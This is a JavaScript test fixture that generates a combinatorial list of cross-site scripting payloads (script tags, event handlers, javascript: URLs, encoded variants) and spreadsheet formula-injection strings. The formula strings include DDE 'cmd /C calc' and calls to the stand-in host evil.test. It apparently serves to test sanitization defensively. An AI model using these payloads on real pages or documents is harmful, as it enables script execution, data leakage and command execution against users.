// SPDX-License-Identifier: Apache-2.0
// Hostile texts (T24): whatever a browser or a spreadsheet might take for more than text. Made of
// parts, so that each way in meets each way out of its surroundings.

/** What would run `hit(n)`, in the ways known to work where text is taken for markup or script. */
const ways = [
  "<script>hit(N)</script>",
  "<ScRiPt>hit(N)</sCrIpT>",
  "<script src=data:,hit(N)></script>",
  "<script type=module>hit(N)</script>",
  "<img src=x onerror=hit(N)>",
  "<img/src=x/onerror=hit(N)>",
  "<img src=x onerror\n=\nhit(N)>",
  "<IMG SRC=javascript:hit(N)>",
  "<svg onload=hit(N)>",
  "<svg/onload=hit(N)//",
  "<svg><script>hit(N)</script></svg>",
  "<svg><animate onbegin=hit(N) attributeName=x dur=1s>",
  "<svg><a xlink:href=javascript:hit(N)><text y=9>a</text></a>",
  "<svg><use href=data:image/svg+xml,<svg/onload=hit(N)>>",
  "<math><mtext><script>hit(N)</script></mtext></math>",
  "<iframe src=javascript:hit(N)></iframe>",
  "<iframe srcdoc='<script>parent.hit(N)</script>'></iframe>",
  "<object data=javascript:hit(N)></object>",
  "<embed src=javascript:hit(N)>",
  "<body onload=hit(N)>",
  "<input autofocus onfocus=hit(N)>",
  "<select autofocus onfocus=hit(N)>",
  "<textarea autofocus onfocus=hit(N)></textarea>",
  "<details open ontoggle=hit(N)>",
  "<video src=x onerror=hit(N)></video>",
  "<video><source onerror=hit(N)></video>",
  "<audio src=x onerror=hit(N)>",
  "<marquee onstart=hit(N)>",
  "<div onpointerenter=hit(N) style=position:fixed;inset:0>a</div>",
  "<a href=javascript:hit(N)>a</a>",
  "<a href=java\tscript:hit(N)>a</a>",
  "<a href='&#106;avascript:hit(N)'>a</a>",
  "<form action=javascript:hit(N)><button>a</button></form>",
  "<button formaction=javascript:hit(N)>a</button>",
  "<meta http-equiv=refresh content=0;url=javascript:hit(N)>",
  "<link rel=stylesheet href=data:text/css,*{}>",
  "<base href=http://evil.test/>",
  "<style>@import'http://evil.test/N';</style>",
  "<style>*{background:url(http://evil.test/N)}</style>",
  "<template><script>hit(N)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=hit(N)>'>",
  "<xss style=animation-name:a onanimationstart=hit(N)>",
  "javascript:hit(N)",
  "{{constructor.constructor('hit(N)')()}}",
  "${hit(N)}",
  "&lt;script&gt;hit(N)&lt;/script&gt;",
  "%3Cscript%3Ehit(N)%3C/script%3E",
  "\\u003cscript\\u003ehit(N)\\u003c/script\\u003e",
  "＜script＞hit(N)＜/script＞",
  "hit(N)",
];
/** Out of where the text stands. */
const exits = [
  "",
  '">',
  "'>",
  "</script>",
  "</title>",
  "</textarea>",
  "-->",
  '" x="',
  "`",
  "');",
];

const visible = (text) => text.replace(/[\n\t]/g, " "); // the core takes no control characters
export const scripts = exits.flatMap((exit, out) =>
  ways.map((way, at) => visible(exit + way).replaceAll("N", String(out * ways.length + at))),
);

/** What a spreadsheet would calculate. */
const signs = ["=", "+", "-", "@", "＝"];
const formulas = [
  "1+1",
  'HYPERLINK("http://evil.test","a")',
  "cmd|' /C calc'!A0",
  "SUM(1,2)",
  'IMPORTXML("http://evil.test","//a")',
  'WEBSERVICE("http://evil.test")',
  'DDE("cmd","/C calc","a")',
  "A1*2",
  "2+5+cmd|' /C calc'!A0",
  'IF(1,"a","b")',
];
export const cells = signs.flatMap((sign) => formulas.map((formula) => sign + formula));
